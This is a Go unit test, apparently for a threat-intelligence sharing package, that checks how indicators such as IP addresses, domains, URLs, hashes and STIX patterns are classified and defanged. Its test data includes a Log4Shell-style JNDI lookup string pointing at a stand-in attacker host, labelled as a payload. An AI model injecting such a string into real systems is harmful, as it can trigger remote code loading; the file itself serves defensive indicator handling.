package sharing

import (
	"strings"
	"testing"
)

const evil = `${jndi:ldap://evil.example/a}`

// The type of a sign is told by its form, and what people did to it so that nobody
// clicks is undone; shown, it is done again.
func TestSignsAreKnownByTheirForm(t *testing.T) {
	for text, want := range map[string][3]string{
		"192.0.2.1":                         {"ipv4", "192.0.2.1", "192[.]0[.]2[.]1"},
		"198.51.100.0/24":                   {"ipv4", "198.51.100.0/24", "198[.]51[.]100[.]0/24"},
		"2001:db8::1":                       {"ipv6", "2001:db8::1", "2001[:]db8[:][:]1"},
		"evil[.]example":                    {"domain", "evil.example", "evil[.]example"},
		"hxxps://evil[.]example/a?b=1":      {"url", "https://evil.example/a?b=1", "hxxps[://]evil[.]example/a?b=1"},
		"LDAP://evil.example:389/x":         {"url", "LDAP://evil.example:389/x", "LDAP[://]evil[.]example:389/x"},
		"bad[at]evil.example":               {"email", "bad@evil.example", "bad[@]evil[.]example"},
		"d41d8cd98f00b204e9800998ecf8427e":  {"md5", "d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427e"},
		strings.Repeat("AB", 32):            {"sha256", strings.Repeat("AB", 32), strings.Repeat("AB", 32)},
		evil:                                {"payload", evil, "${jndi:ldap[://]evil.example/a}"},
		"[domain-name:value = 'a.example']": {"stix-pattern", "[domain-name:value = 'a.example']", "[domain-name:value = 'a.example']"},
		"setup.exe":                         {"file-name", "setup.exe", "setup.exe"},
		`C:\Windows\x`:                      {"file-name", `C:\Windows\x`, `C:\Windows\x`},
		"User-Agent: curl/8":                {"user-agent", "curl/8", "curl/8"},
		"X-Api-Version: 1":                  {"http-header", "X-Api-Version: 1", "X-Api-Version: 1"},
		"something that is none":            {"other", "something that is none", "something that is none"},
		"münchen.example":                   {"domain", "münchen.example", "münchen[.]example"},
	} {
		kind, value := DetectSign(text)
		if got := [3]string{kind, value, Defang(kind, value)}; got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}
